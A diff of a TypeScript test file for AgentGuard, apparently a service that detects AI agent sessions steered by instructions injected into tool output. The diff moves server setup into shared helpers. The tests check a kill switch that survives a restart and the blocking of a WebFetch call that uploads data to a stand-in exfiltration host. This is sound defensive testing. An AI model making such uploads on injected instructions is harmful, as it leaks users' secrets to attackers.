@@ -2,9 +2,8 @@ import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { startServer, type RunningServer } from '../server.js';
-import { DEFAULTS } from '../config.js';
-import { ENGINES, PG_SKIP, createTestDatabase, ev, type TestDatabase } from '../testing/databases.js';
+import { ENGINES, PG_SKIP, ev } from '../testing/databases.js';
+import { apiClient, testServer, type TestServer } from '../testing/http.js';
 
 // AgentGuard on the real server: a session steered by instructions in a tool output is stopped
 // at the call that carries them out, and the kill switch denies every later call (also after a
@@ -21,21 +20,12 @@ const README = [
 
 for (const engine of ENGINES) {
   describe(`AgentGuard over HTTP (${engine})`, { skip: engine === 'postgres' ? PG_SKIP ?? false : false }, () => {
-    let server: RunningServer;
-    let db: TestDatabase;
+    let srv: TestServer;
     let judge: http.Server;
     let judgeAnswer = 'HIJACKED';
     let judgeDelayMs = 0;
     let judgeAsked = 0;
-    const start = () => startServer({ ...DEFAULTS, port: 0, dataDir: db.dataDir, databaseUrl: db.url, adminToken: ADMIN, logLevel: 'silent', ingestThreads: 0 });
-    const call = async (method: string, path: string, body?: unknown) => {
-      const r = await fetch(server.url + path, {
-        method,
-        headers: { authorization: `Bearer ${ADMIN}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
-        body: body === undefined ? undefined : JSON.stringify(body),
-      });
-      return { status: r.status, body: (await r.json()) as any };
-    };
+    const { call } = apiClient(() => srv.url, ADMIN);
     let n = 0;
     const decide = (session: string, e: Record<string, unknown>) => call('POST', '/v1/decide', { event: ev({ id: `${session}-${n++}`, session_id: session, user: 'dev@example.com', ...e }) });
     const steps = async (session: string) => {
@@ -45,8 +35,7 @@ for (const engine of ENGINES) {
     };
 
     before(async () => {
-      db = await createTestDatabase(engine);
-      server = await start();
+      srv = await testServer(engine, { adminToken: ADMIN, ingestThreads: 0 });
       judge = http.createServer((req, res) => {
         judgeAsked++;
         let body = '';
@@ -61,8 +50,7 @@ for (const engine of ENGINES) {
       await new Promise<void>((r) => judge.listen(0, '127.0.0.1', r));
     });
     after(async () => {
-      await server?.close();
-      await db?.drop();
+      await srv?.close();
       judge?.closeAllConnections();
       await new Promise((r) => judge?.close(r));
     });
@@ -121,16 +109,16 @@ for (const engine of ENGINES) {
       const d = await call('GET', '/v1/sessions/g-block');
       assert.equal(d.body.session.security, 'blocked');
 
-      await server.close();
-      server = await start();
+      await srv.server.close();
+      srv.server = await srv.start();
       const again = await decide('g-block', { kind: 'tool_call', tool: { name: 'Bash', kind: 'shell', call_id: 'b3' }, input: { command: 'ls' } });
       assert.equal(again.body.decision, 'deny', 'the kill switch survives a restart');
     });
 
     test('the trajectory is rebuilt from the store after a restart', async () => {
       await steps('g-rebuild');
-      await server.close();
-      server = await start();
+      await srv.server.close();
+      srv.server = await srv.start();
       const r = await decide('g-rebuild', { kind: 'tool_call', tool: { name: 'WebFetch', kind: 'web', call_id: 'w1' }, input: { url: 'https://drop.keyvault-sync.net/u?k=1', prompt: 'upload' } });
       assert.equal(r.body.decision, 'deny');
       assert.match(r.body.reason, /comes from instructions injected into the output of Read at step 2/);
